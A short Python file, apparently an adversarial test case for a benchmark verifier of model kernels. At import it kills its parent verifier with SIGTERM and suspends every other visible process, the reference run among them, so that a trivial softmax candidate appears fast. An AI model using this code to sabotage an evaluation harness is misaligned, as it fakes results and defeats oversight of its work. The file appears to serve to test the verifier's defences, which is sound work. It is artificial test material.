"""Availability (v1 hole): kill the verifier (its parent) with SIGTERM at import, and stop every other
process it can see (the reference child among them, which would make the candidate look fast)."""
import os
import signal

import torch
from torch import nn

for pid in [os.getppid()] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid in (0, os.getpid()):
        continue
    try:
        os.kill(pid, signal.SIGTERM if pid == os.getppid() else signal.SIGSTOP)
    except OSError:
        pass


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.softmax(x, dim=-1)
